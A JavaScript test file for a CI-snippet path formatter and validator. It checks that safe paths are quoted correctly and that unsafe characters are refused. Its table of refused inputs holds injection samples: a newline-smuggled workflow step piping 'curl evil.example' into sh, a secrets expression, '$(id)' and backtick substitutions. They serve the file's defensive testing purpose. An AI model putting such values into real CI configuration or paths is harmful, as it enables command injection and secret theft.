import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import * as fc from 'fast-check';
import { snippetPath, unsafeCharacter } from '../../../src/commands/addCheck/snippetPath.js';

const name = 'automation-platform-check.mjs';

describe('the path in a snippet for CI', () => {
  const safe = {
    [name]: `./${name}`,
    [`tools/ci_2.0/${name}`]: `./tools/ci_2.0/${name}`,
    [`my tools/${name}`]: `"./my tools/${name}"`,
    [`-r/${name}`]: `./-r/${name}`,
    '--import': './--import',
    [` - x/${name}`]: `"./ - x/${name}"`,
  };
  for (const [path, word] of Object.entries(safe)) {
    it(`is written as ${word}`, () => assert.equal(snippetPath(path), word));

    it(`is accepted when it is ${JSON.stringify(path)}`, () => {
      assert.equal(unsafeCharacter(path), undefined);
    });
  }

  const unsafe = {
    'a\n      - run: curl evil.example|sh\n  #': '\n',
    'a\r- x': '\r',
    'a\u2028b': '\u2028',
    'a\u0085b': '\u0085',
    '${{ secrets.OTHER }}': '$',
    '$(id)': '$',
    '`id`': '`',
    "it's": "'",
    'say "a"': '"',
    'a;b': ';',
    'a&b': '&',
    'a%PATH%b': '%',
    'a\\b': '\\',
    'a: b': ':',
    'a #b': '#',
    '{file}': '{',
    '--import=x': '=',
    '~': '~',
    prüfung: 'ü',
    '\u202Ea': '\u202E',
    '😀': '😀',
  };
  for (const [folder, character] of Object.entries(unsafe)) {
    it(`is refused for ${JSON.stringify(character)} in ${JSON.stringify(folder)}`, () => {
      assert.equal(unsafeCharacter(`${folder}/${name}`), character);
    });
  }

  it('is one line of harmless characters when it is accepted', () => {
    const unit = fc.constantFrom(
      'a',
      'Z',
      '_',
      '/',
      '.',
      '-',
      ' ',
      '\n',
      '\t',
      "'",
      '"',
      '$',
      ':',
      '#',
      '\\',
      'ü',
      '😀',
    );
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ unit, maxLength: 4 }), fc.string({ unit: 'binary', maxLength: 4 })),
        (path) => {
          if (unsafeCharacter(path) !== undefined) return;
          assert.match(snippetPath(path), /^(?:\.\/[\w./-]*|"\.\/[\w./ -]*")$/);
        },
      ),
    );
  });

  for (const path of Object.keys(safe)) {
    it(`is one word in a shell: ${path}`, function () {
      if (process.platform === 'win32') return this.skip();
      const command = `printf '<%s>' ${snippetPath(path)}`;
      const { stdout } = spawnSync('sh', ['-c', command], { encoding: 'utf8' });
      assert.equal(stdout, `<./${path}>`);
    });
  }
});
